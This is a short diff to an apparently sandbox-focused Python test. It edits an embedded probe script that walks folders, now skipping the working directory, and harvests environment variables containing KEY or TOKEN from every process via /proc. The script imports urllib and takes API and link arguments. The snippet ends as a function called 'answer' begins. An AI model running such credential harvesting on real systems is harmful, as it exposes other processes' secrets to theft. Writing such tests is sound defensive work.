@@ -15,7 +15,8 @@ pytestmark = needs_sandbox
 LOOKS = """
 import json, os, sys, urllib.request, urllib.error
 api, link, *folders = sys.argv[1:]
-found = [os.path.join(place, name) for folder in folders for place, _, names in os.walk(folder) for name in names]
+found = [os.path.join(place, name) for folder in folders for place, _, names in os.walk(folder) for name in names
+         if not place.startswith(os.getcwd())]
 variables = [name for process in os.listdir("/proc") if process.isdigit()
              for name in open(f"/proc/{process}/environ").read().split("\\0") if "KEY" in name or "TOKEN" in name]
 def answer(address):
